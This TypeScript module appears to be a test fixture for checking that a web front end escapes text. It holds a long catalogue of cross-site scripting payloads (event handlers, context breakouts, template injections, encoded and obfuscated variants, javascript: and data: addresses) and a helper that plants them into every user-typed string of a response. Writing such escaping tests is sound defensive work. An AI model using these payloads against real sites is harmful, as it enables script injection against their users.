/** Texts that would be scripts, frames or addresses of scripts, had a page taken them for more than text. Each does the same: it says `harm`, and asks for /harm. */

const harm = `console.log('harm')||alert('harm')||fetch('/harm')`
/** For places where no quote gets through. */
const bare = 'alert(/harm/)'

const elements = [
  `<script>${harm}</script>`,
  `<script src="/harm.js"></script>`,
  `<ScRiPt >${bare}</sCrIpT>`,
  `<scr<script>ipt>${bare}</scr</script>ipt>`,
  `<img src="/harm.png" onerror="${harm}">`,
  `<img src=x:harm onerror=${bare}>`,
  `<IMG """><SCRIPT>${bare}</SCRIPT>">`,
  `<svg onload=${bare}>`,
  `<svg><script>${bare}</script></svg>`,
  `<svg><animate onbegin=${bare} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${bare}"><text x=1 y=20>harm</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${bare}'></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bare}&gt;">`,
  `<body onload=${bare}>`,
  `<input autofocus onfocus=${bare}>`,
  `<select autofocus onfocus=${bare}>`,
  `<textarea autofocus onfocus=${bare}>`,
  `<details open ontoggle=${bare}>`,
  `<video src=/harm.mp4 onerror=${bare}>`,
  `<video><source onerror=${bare}></video>`,
  `<audio src=/harm.mp3 onerror=${bare}>`,
  `<marquee onstart=${bare}>`,
  `<iframe src="javascript:${bare}"></iframe>`,
  `<iframe srcdoc="<script>parent.${bare}</script>"></iframe>`,
  `<iframe src="/harm.html"></iframe>`,
  `<object data="javascript:${bare}"></object>`,
  `<object data="/harm.swf"></object>`,
  `<embed src="/harm.swf">`,
  `<link rel=stylesheet href="/harm.css">`,
  `<link rel=import href="/harm.html">`,
  `<style>@import '/harm.css';</style>`,
  `<style>body{background:url('/harm.png')}</style>`,
  `<div style="background:url(/harm.png)">harm</div>`,
  `<div style="width:expression(${bare})">harm</div>`,
  `<meta http-equiv=refresh content="0;url=/harm">`,
  `<meta http-equiv=refresh content="0;url=javascript:${bare}">`,
  `<base href="/harm/">`,
  `<form action="/harm"><button autofocus>harm</button></form>`,
  `<form><button formaction="javascript:${bare}">harm</button></form>`,
  `<isindex action=javascript:${bare} type=submit value=harm>`,
  `<a href="javascript:${bare}">harm</a>`,
  `<a href="data:text/html,<script>${bare}</script>">harm</a>`,
  `<a href="vbscript:msgbox(1)">harm</a>`,
  `<img src=x:harm/onerror=${bare}//`,
  `<img/src/onerror=${bare}>`,
  `<div onmouseover=${bare} style="position:fixed;inset:0">harm</div>`,
  `<x onclick=${bare} contenteditable autofocus onfocus=${bare} tabindex=1>harm`,
  `<noscript><p title="</noscript><img src=x:harm onerror=${bare}>">`,
  `<template><script>${bare}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${bare}>">`,
  `<!--><img src=x:harm onerror=${bare}>-->`,
  `<![CDATA[<img src=x:harm onerror=${bare}>]]>`,
  `<?xml-stylesheet href="javascript:${bare}"?>`,
  `<portal src="/harm.html"></portal>`,
]

const outOfPlaces = [
  `"><img src=x:harm onerror=${bare}>`,
  `'><img src=x:harm onerror=${bare}>`,
  `" autofocus onfocus=${bare} x="`,
  `' autofocus onfocus=${bare} x='`,
  `\` onmouseover=${bare} x=\``,
  `</title><svg onload=${bare}>`,
  `</textarea><svg onload=${bare}>`,
  `</script><svg onload=${bare}>`,
  `</style><svg onload=${bare}>`,
  `--><svg onload=${bare}>`,
  `";${bare};//`,
  `';${bare};//`,
  `\\";${bare};//`,
  `</script><script>${bare}//`,
  `\${${bare}}`,
  `{{constructor.constructor('${bare}')()}}`,
  `#{${bare}}`,
  `<%= ${bare} %>`,
  `[harm](javascript:${bare})`,
  `![harm](x:harm"onerror="${bare})`,
  `\u2028${bare}\u2029`,
]

const hidden = [
  `&lt;script&gt;${bare}&lt;/script&gt;`,
  `&#60;img src=x:harm onerror=${bare}&#62;`,
  `%3Cimg src=x:harm onerror=${bare}%3E`,
  `\\u003cimg src=x:harm onerror=${bare}\\u003e`,
  `\uFF1Cscript\uFF1E${bare}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${bare}+ADw-/script+AD4-`,
  `<im\u00ADg src=x:harm onerror=${bare}>`,
  `\u202E<img src=x:harm onerror=${bare}>`,
  `\u00BCscript\u00BE${bare}\u00BC/script\u00BE`,
  `<a href="jav&#x09;ascript:${bare}">harm</a>`,
  `<a href="&#14; javascript:${bare}">harm</a>`,
  `<img src="x:harm" onerror="&#97;lert(/harm/)">`,
  `<img src=x:harm oNeRrOr=${bare}>`,
  `<svg/onload=eval(atob('YWxlcnQoL2hhcm0vKQ=='))>`,
  `<img src=x:harm onerror=Function('${bare}')()>`,
  `<img src=x:harm onerror=import('/harm.js')>`,
  `<img src=x:harm onerror=setTimeout('${bare}')>`,
]

/** Of use only where a whole text becomes an address. */
export const addresses = [
  `javascript:${bare}`,
  `JaVaScRiPt:${bare}`,
  ` javascript:${bare}`,
  `java\tscript:${bare}`,
  `javascript://%0a${bare}`,
  `data:text/html,<script>${bare}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgvaGFybS8pPC9zY3JpcHQ+`,
  `//harm.example/harm`,
]

export const payloads: readonly string[] = [...elements, ...outOfPlaces, ...hidden]

/** A code, a day, a number, an address of a door: what a page compares or counts, and nobody typed. */
const isCode = (text: string) => /^[\w.:/+#@%-]*$/.test(text)

/** The same answer with `harm` set into every text of it that somebody may have typed; `n` counts them. */
export const planted = (value: unknown, harmAt: (text: string, n: number) => string, count = { n: 0 }): unknown => {
  if (typeof value === 'string') {
    if (isCode(value)) return value
    count.n += 1
    return harmAt(value, count.n)
  }
  if (Array.isArray(value)) return value.map(one => planted(one, harmAt, count))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, planted(one, harmAt, count)]))
}
